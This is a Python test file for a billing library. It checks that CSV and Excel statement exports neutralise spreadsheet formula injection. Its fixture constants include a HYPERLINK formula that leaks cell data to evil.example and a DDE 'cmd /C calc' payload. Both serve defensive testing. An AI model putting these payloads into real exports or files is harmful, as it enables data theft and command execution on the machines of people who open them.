"""Spreadsheet-bound documents do not run the data as formulas (docs/documents.md, "Formulas"):
the statement CSV prefixes a text cell that starts with =, +, -, @, a tab or a carriage return
with ', and leaves numbers as they are; the workbook writes text as string cells, exactly, and
shows the control characters a workbook cannot hold. The engine's own CSV stays byte-exact.

The data is examples/tariffs/facilities.tariff with contract C-100 renamed and its work lines'
ids and requests replaced by formulas, as a hostile export would carry them.
"""

import csv
import datetime
import io
import types
import zipfile
from decimal import Decimal

import pytest

import tariff
from tariff import documents
from tariff.documents._spreadsheet import csv_cell, workbook_text

CLIENT = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CONTRACT = "@C-100"
REQUEST = "+1+cmd|' /C calc'!A0"
LINE = "-2+3"


@pytest.fixture(scope="module")
def hostile(examples):
    """C-100's March statement, billed from contracts and work whose text is formulas."""
    t = tariff.compile(examples / "tariffs" / "facilities.tariff")
    contracts_csv = (examples / "work" / "facilities-contracts.csv").read_text(encoding="utf-8")
    work_csv = (examples / "work" / "facilities-work.csv").read_text(encoding="utf-8")
    contracts_csv = contracts_csv.replace("C-100,Tsentr Offices",
                                          f'{CONTRACT},"{CLIENT.replace(chr(34), 2 * chr(34))}"')
    work_csv = work_csv.replace("L1,R-1,C-100", f"{LINE},{REQUEST},{CONTRACT}").replace(
        ",C-100,", f",{CONTRACT},")
    contract = next(c for c in tariff.read_contracts_csv(contracts_csv) if c.id == CONTRACT)
    assert contract.client == CLIENT
    work = [w for w in tariff.read_work_csv(work_csv) if w.contract == CONTRACT]
    assert work[0].id == LINE and work[0].request == REQUEST
    return t, t.bill(contract, datetime.date(2026, 3, 1), work)


def test_csv_cells_that_would_run_start_with_an_apostrophe():
    assert [csv_cell(t) for t in ("=1+1", "+1+1", "-A1", "@SUM(A1)", "\tx", "\rx")] == [
        "'=1+1", "'+1+1", "'-A1", "'@SUM(A1)", "'\tx", "'\rx"]
    assert [csv_cell(t) for t in ("-1400.00", "+5", "0.00", "12", "", "a=b", "L-1")] == [
        "-1400.00", "+5", "0.00", "12", "", "a=b", "L-1"]
    assert csv_cell("-1h") == "'-1h"  # a negative quantity is text to a spreadsheet


def test_statement_csv_neutralises_text_and_keeps_numbers(hostile):
    _, statement = hostile
    records = list(csv.DictReader(io.StringIO(documents.statement_csv(statement))))
    assert {r["contract"] for r in records} == {"'" + CONTRACT}
    first = next(r for r in records if r["section"] == "work")
    assert (first["line"], first["request"]) == ("'" + LINE, "'" + REQUEST)
    assert sum(Decimal(r["amount"]) for r in records) == statement.revenue
    for r in records:
        for column in ("amount", "unit_price", "covered"):
            assert not r[column].startswith("'"), (column, r[column])


def test_the_engines_own_csv_is_not_changed(hostile):
    t, statement = hostile
    text = t.priced_csv(statement.lines)
    assert f"\n{LINE},{REQUEST},{CONTRACT},hvac_repair," in text
    assert "'" + LINE not in text


def test_workbook_text_is_string_cells_never_formulas(hostile, tmp_path):
    import openpyxl

    _, statement = hostile
    path = documents.write_workbook(statement, tmp_path / "hostile.xlsx", locale="en")
    book = openpyxl.load_workbook(path)
    summary = {row[0].value: row[1] for row in book["Summary"].iter_rows(min_row=2)}
    assert (summary["Contract"].value, summary["Contract"].data_type) == (CONTRACT, "s")
    assert (summary["Client"].value, summary["Client"].data_type) == (CLIENT, "s")
    assert summary["Revenue without tax"].data_type == "n"  # amounts stay numbers
    first = next(book["Lines"].iter_rows(min_row=2))
    assert [(c.value, c.data_type) for c in first[1:3]] == [(LINE, "s"), (REQUEST, "s")]
    assert first[10].data_type == "n"
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode(), name


def test_workbook_shows_control_characters_it_cannot_hold(hostile, tmp_path):
    import openpyxl

    _, statement = hostile
    assert workbook_text("Acme\x1b[2J\x00\tok\n") == "Acme\\x1b[2J\\x00\tok\n"
    assert workbook_text(Decimal("1.50")) == Decimal("1.50")
    # The readers refuse such a name; a statement a host built by hand may still carry one.
    odd = types.SimpleNamespace(**{name: getattr(statement, name) for name in dir(statement)
                                   if not name.startswith("_")})
    odd.client = "Acme\x1b[2J=1"
    book = openpyxl.load_workbook(documents.write_workbook(odd, tmp_path / "odd.xlsx"))
    summary = {row[0].value: row[1].value for row in book["Summary"].iter_rows(min_row=2)}
    assert summary["Client"] == "Acme\\x1b[2J=1"
